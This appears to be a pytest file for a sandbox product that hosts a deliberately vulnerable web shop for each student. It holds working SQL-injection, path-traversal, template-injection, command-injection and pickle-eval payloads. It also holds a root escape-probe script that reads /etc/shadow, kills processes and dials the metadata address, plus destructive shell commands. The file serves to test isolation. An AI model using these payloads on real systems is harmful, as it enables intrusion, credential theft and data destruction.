"""The lab: a shop full of holes for every student, broken into through its URL, and as new after one call."""

from __future__ import annotations

import base64
import html
import http.client
import json
import os
import pickle
import re
import secrets
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest

from ringfence import Client, Sandbox
from tests.support import scale
from tests.support.served import served

LAB = Path(__file__).parents[2] / "examples" / "lab" / "classroom.py"
FLAG = "flag{the-first-of-five}"
# Run as root inside, by a visitor who took the shop over: what of the world outside can be touched?
LOOT = r"""
import glob, json, os, socket, sys
canary, backwards, victim, ports, neighbour = sys.argv[1:]  # its own command line must not hold the secret
def tried(act, *words):
    try:
        return repr(act(*words))[:200]
    except OSError as error:
        return "refused: " + type(error).__name__
def dial(host, port):
    with socket.create_connection((host, int(port)), 2) as link:
        return link.getpeername()
def look(path):
    with open(path, "rb") as file:
        return file.read()
names = [n for n in os.listdir("/proc") if n.isdigit()]
lines = [look(f"/proc/{n}/cmdline").decode(errors="replace") for n in names if os.path.exists(f"/proc/{n}/cmdline")]
print(json.dumps({
    "uid": os.getuid(),
    "dialled": {h + ":" + p: tried(dial, h, p) for p in ports.split(",") for h in ("127.0.0.1", "10.0.0.1", "1.1.1.1",
                "169.254.169.254", neighbour)},
    "resolved": tried(socket.gethostbyname, "example.com"),
    "interfaces": [name for _, name in socket.if_nameindex()],
    "canary": tried(look, canary),
    "through proc": tried(look, "/proc/1/root" + canary),
    "shadow": tried(look, "/etc/shadow"),
    "wrote": tried(lambda: open("/etc/hostile", "w").write("x")),
    "disks": sorted(glob.glob("/dev/sd*") + glob.glob("/dev/vd*") + glob.glob("/dev/mem")),
    "victim": tried(os.kill, int(victim), 9),
    "seen": [line for line in lines if backwards[::-1] in line],
    "processes": len(names),
    "sockets": [p for p in glob.glob("/run/**", recursive=True) if p.endswith(".sock")],
}))
"""


def offered() -> dict[str, str]:
    """Every way to isolate that is here; why the others are not."""
    with served().client() as client:
        return {each.name: "" if each.available else each.reason or "absent" for each in client.runtimes()}


@pytest.fixture(scope="module", params=scale.RUNTIMES)
def isolation(request: pytest.FixtureRequest) -> str:
    """Each way in turn; a missing one is skipped here, and an error where all must be there."""
    lacking = offered().get(request.param, "unknown here")
    if lacking and os.environ.get("CI") == "true":
        pytest.fail(lacking)
    if lacking:
        pytest.skip(lacking)
    return str(request.param)


@pytest.fixture(scope="module")
def client() -> Iterator[Client]:
    """The teacher's."""
    with served().client() as made:
        yield made


@dataclass
class Visitor:
    """A browser with one student's link: it follows it, keeps the cookie, and asks for pages."""

    link: str
    cookie: str = ""

    @property
    def host(self) -> str:
        """The name of the place."""
        return urlsplit(self.link).netloc

    def get(self, target: str, **headers: str) -> tuple[int, str]:
        """A page: its status and text."""
        port = urlsplit(self.link).port
        assert port is not None
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
        try:
            cookies = "; ".join(part for part in (self.cookie, headers.pop("Cookie", "")) if part)
            connection.request("GET", target, headers={"Host": self.host, "Cookie": cookies, **headers})
            answer = connection.getresponse()
            self._keep(answer.getheader("Set-Cookie"))
            return answer.status, html.unescape(answer.read().decode())
        finally:
            connection.close()

    def _keep(self, cookie: str | None) -> None:
        if cookie is not None:
            self.cookie = cookie.partition(";")[0]

    def enter(self) -> Visitor:
        """Follow the link."""
        parts = urlsplit(self.link)
        status, _ = self.get(f"{parts.path}?{parts.query}")
        assert status in {302, 303}
        return self

    def shell(self, line: str) -> str:
        """What a command says, smuggled in behind a name."""
        status, page = self.get(f"/ping?host={quote('; ' + line)}")
        assert status == 200, page
        return page.partition("looking for\n")[2].partition("</pre>")[0]


def classroom(*words: str) -> str:
    """The teacher's script."""
    done = subprocess.run(
        [sys.executable, str(LAB), *words], env=served().env, capture_output=True, text=True, timeout=250, check=False
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.fixture(scope="module")
def lab(isolation: str) -> Iterator[str]:
    """A class of two, by name."""
    name = f"lab-{isolation}"
    yield name
    with served().client() as client:  # nothing, unless a test broke off
        for left in Sandbox.list({"lab": name}, state="running", client=client):
            Sandbox.connect(left.id, client=client).stop()


@pytest.fixture(scope="module")
def seats(lab: str, isolation: str) -> list[tuple[str, Visitor]]:
    """Opened by one command, which prints a table: a sandbox and a link for each student."""
    lines = classroom("open", "2", "--lab", lab, "--isolation", isolation, "--hours", "0.1").splitlines()
    rows = [line.split() for line in lines[1:]]
    assert [row[0] for row in rows] == ["01", "02"]
    return [(sandbox, Visitor(link).enter()) for _, sandbox, link in rows]


class Cook:
    """Unpickled, it is the answer to a question that nobody asked."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, (self.code,)


def test_every_hole_is_one(seats: list[tuple[str, Visitor]]) -> None:
    """All five give what they should not, and three of them run a stranger's code as root inside."""
    _, ada = seats[0]
    stolen = quote("' union select name, password from users --")
    assert FLAG in ada.get(f"/search?q={stolen}")[1]
    assert FLAG in ada.get(f"/read?name={quote('../secret.txt')}")[1]
    assert "Dear 0," in ada.get(f"/card?name={quote('{__import__(chr(111)+chr(115)).getuid()}')}")[1]
    assert ada.shell("id -u") == "0\n"
    cookie = base64.b64encode(pickle.dumps(Cook("'uid %d' % __import__('os').getuid()"))).decode()
    assert "Hello uid 0." in ada.get("/", Cookie=f"profile={cookie}")[1]


def test_a_link_is_for_its_own_shop(seats: list[tuple[str, Visitor]]) -> None:
    """Neither a link nor the cookie made from it opens the neighbour's."""
    (_, ada), (_, bob) = seats
    assert bob.get("/")[0] == 200
    stranger = Visitor(bob.link, cookie=ada.cookie)
    assert stranger.get("/")[0] == 404
    assert stranger.get(f"/?{urlsplit(ada.link).query}")[0] == 404
    assert Visitor(bob.link).get("/")[0] == 404


def test_nothing_outside_can_be_touched(
    seats: list[tuple[str, Visitor]], client: Client, isolation: str, tmp_path: Path
) -> None:
    """Root in the shop, with code of their own: no network, no neighbour, no file and no process of the host."""
    (_, ada), (neighbour, bob) = seats
    secret = secrets.token_hex(12)
    canary = tmp_path / "canary"
    canary.write_text(secret)
    victim = subprocess.Popen([sys.executable, "-c", "import sys; sys.stdin.read()", secret], stdin=subprocess.PIPE)
    with socket.create_server(("0.0.0.0", 0)) as listener:
        reached = threading.Event()
        threading.Thread(target=lambda: (listener.accept(), reached.set()), daemon=True).start()
        ports = f"{listener.getsockname()[1]},{urlsplit(ada.link).port},{urlsplit(served().url).port},22,443"
        words = " ".join([str(canary), secret[::-1], str(victim.pid), ports, f"8000-{neighbour}.sbx.localhost"])
        code = base64.b64encode(LOOT.encode()).decode()
        try:
            found = json.loads(ada.shell(f"echo {code} | base64 -d > /tmp/loot.py; python3 /tmp/loot.py {words} 2>&1"))
            assert victim.poll() is None
        finally:
            victim.kill()
            victim.communicate()
        assert not reached.is_set()
    assert found["uid"] == 0
    assert {said.partition(":")[0] for said in found["dialled"].values()} == {"refused"}, found["dialled"]
    assert found["resolved"].startswith("refused")
    assert found["interfaces"] == ["lo"]
    for file in ("canary", "through proc", "wrote"):
        assert found[file].startswith("refused"), found
    assert "root:$" not in found["shadow"]
    assert (found["disks"], found["seen"], found["sockets"]) == ([], [], [])
    assert found["processes"] < 20
    assert bob.get("/")[0] == 200
    assert client.why(neighbour).state == "running"


def test_one_call_makes_it_whole_again(seats: list[tuple[str, Visitor]], lab: str, client: Client) -> None:
    """A shop that was robbed, painted over and killed is as new: same URL, same cookie, nothing of the robber."""
    (sandbox, ada), (_, bob) = seats
    bob.shell("echo bob > mark")
    ada.shell("rm -rf shop; echo painted > mark; (sleep 0.2; kill -9 -1) >/dev/null 2>&1 &")
    before = Sandbox.connect(sandbox, client=client)
    ports = [(port.url, [link.id for link in port.links]) for port in before.published()]
    assert "01 is as new" in classroom("reset", "1", "--lab", lab)
    status, page = ada.get("/read?name=hours.txt")
    assert (status, "open from nine to five" in page) == (200, True)
    assert ada.shell("ls") == "shop\n"
    assert FLAG in ada.get(f"/search?q={quote(chr(39) + ' union select name, password from users --')}")[1]
    after = Sandbox.connect(sandbox, client=client)
    assert [(port.url, [link.id for link in port.links]) for port in after.published()] == ports
    assert (after.info.labels, after.info.expires_at) == (before.info.labels, before.info.expires_at)
    assert [each.tag for each in after.processes()] == ["start"]
    assert bob.shell("cat mark") == "bob\n"


def test_the_lesson_ends(seats: list[tuple[str, Visitor]], lab: str, client: Client) -> None:
    """Closing takes the sandboxes and their links."""
    assert len(re.findall("is gone", classroom("close", "--lab", lab))) == 2
    for sandbox, visitor in seats:
        assert visitor.get("/")[0] == 404
        assert client.why(sandbox).state == "stopped"
